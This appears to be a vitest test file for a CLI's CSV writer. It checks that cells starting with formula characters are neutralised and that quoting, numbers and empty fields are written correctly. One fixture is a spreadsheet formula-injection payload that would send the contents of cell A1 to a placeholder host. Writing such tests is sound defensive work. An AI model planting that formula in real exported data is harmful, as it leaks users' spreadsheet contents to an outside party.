import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type Format, printRows } from '../../cli/io.js';

/** Runs printRows into a buffer and returns what it printed. */
const printed = (rows: Record<string, unknown>[], columns: string[], format: Format = 'csv') => {
  const out: string[] = [];
  printRows({ out: (t) => out.push(t), err: () => {}, isTty: false }, rows, columns, format);
  return out.join('\n');
};

describe('printRows --csv', () => {
  it('neutralises a cell that a spreadsheet would run as a formula', () => {
    // Prepare
    const sku = '=HYPERLINK("http://x/?"&A1)';

    // Act
    const csv = printed([{ sku, location: 'WH-1', quantity: 3 }], ['sku', 'location', 'quantity']);

    // Assess
    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://x/?""&A1)",WH-1,3`);
    expect(parse(csv, { columns: true })).toEqual([
      { sku: `'${sku}`, location: 'WH-1', quantity: '3' },
    ]);
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '＝1'])(
    'prefixes %j, a text cell that starts a formula, with a quote',
    (text) => {
      const [row] = parse(printed([{ name: text }], ['name']), { columns: true });
      expect(row).toEqual({ name: `'${text}` });
    },
  );

  it('writes numbers as numbers: a negative quantity is data, not a formula', () => {
    expect(
      printed([{ sku: 'MUG-1', quantity: -5, price: 2.5 }], ['sku', 'quantity', 'price']),
    ).toBe('sku,quantity,price\nMUG-1,-5,2.5');
  });

  it('quotes delimiters and line breaks, leaves empty what is absent, and writes booleans and objects readably', () => {
    const csv = printed(
      [{ name: 'a, "b"\nc', listed: false, filter: { levels: ['LOW_STOCK'] } }],
      ['name', 'missing', 'listed', 'filter'],
    );
    expect(parse(csv, { columns: true })).toEqual([
      { name: 'a, "b"\nc', missing: '', listed: 'false', filter: '{"levels":["LOW_STOCK"]}' },
    ]);
  });

  it('prints only the header when there are no rows', () => {
    expect(printed([], ['sku', 'quantity'])).toBe('sku,quantity');
  });
});
